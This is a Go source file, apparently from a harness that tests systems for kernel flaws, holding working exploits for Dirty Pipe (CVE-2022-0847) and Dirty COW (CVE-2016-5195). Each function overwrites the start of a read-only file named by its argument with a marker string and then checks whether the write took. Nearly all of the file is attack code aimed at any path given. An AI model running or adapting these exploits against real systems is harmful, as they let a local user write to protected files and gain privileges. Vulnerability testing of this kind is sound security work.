package main

import (
	"fmt"
	"os"
	"runtime"
	"sync"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// pageAttacks write to files that they may only read.
func pageAttacks() map[string]attack {
	return map[string]attack{"dirty-pipe": dirtyPipe, "dirty-cow": dirtyCow}
}

const overwritten = "OVERWRITTEN"

// dirtyPipe is CVE-2022-0847: a pipe whose buffers were full once takes a page of a file,
// and what is written next must not go into that page.
func dirtyPipe(args []string) (string, error) {
	file, err := os.Open(args[0])
	if err != nil {
		return "", err
	}
	defer file.Close()
	var ends [2]int
	if err := unix.Pipe2(ends[:], unix.O_CLOEXEC); err != nil {
		return "", err
	}
	defer unix.Close(ends[0])
	defer unix.Close(ends[1])
	if err := fillAndDrain(ends); err != nil {
		return "", err
	}
	var offset int64
	if _, err := unix.Splice(int(file.Fd()), &offset, ends[1], nil, 1, 0); err != nil {
		return "", err
	}
	if _, err := unix.Write(ends[1], []byte(overwritten)); err != nil {
		return "", err
	}
	return startsWith(args[0], overwritten[:1], 1)
}

// fillAndDrain has every buffer of a pipe marked as one that may be added to.
func fillAndDrain(ends [2]int) error {
	size, err := unix.FcntlInt(uintptr(ends[1]), unix.F_GETPIPE_SZ, 0)
	if err != nil {
		return err
	}
	page := make([]byte, 4096)
	for range size / len(page) {
		if _, err := unix.Write(ends[1], page); err != nil {
			return err
		}
	}
	for range size / len(page) {
		if _, err := unix.Read(ends[0], page); err != nil {
			return err
		}
	}
	return nil
}

// dirtyCow is CVE-2016-5195: a write to a private mapping races with giving its copy away.
func dirtyCow(args []string) (string, error) {
	file, err := os.Open(args[0])
	if err != nil {
		return "", err
	}
	defer file.Close()
	mapped, err := unix.Mmap(int(file.Fd()), 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
	if err != nil {
		return "", err
	}
	memory, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
	if err != nil {
		return "", err
	}
	defer memory.Close()
	var all sync.WaitGroup
	end := time.Now().Add(30 * time.Millisecond)
	all.Go(func() {
		for time.Now().Before(end) {
			_ = unix.Madvise(mapped, unix.MADV_DONTNEED) // the file says whether it won
		}
	})
	for time.Now().Before(end) {
		_, _ = memory.WriteAt([]byte(overwritten), int64(uintptr(unsafe.Pointer(&mapped[0])))) // as above
	}
	all.Wait()
	runtime.KeepAlive(mapped)
	return startsWith(args[0], overwritten, 0)
}

// startsWith says whether a file has text at an offset now.
func startsWith(name, text string, at int) (string, error) {
	now, err := os.ReadFile(name)
	if err != nil {
		return "", err
	}
	if len(now) < at+len(text) || string(now[at:at+len(text)]) != text {
		return "", fmt.Errorf("the file is %.20q", now)
	}
	return string(now), nil
}
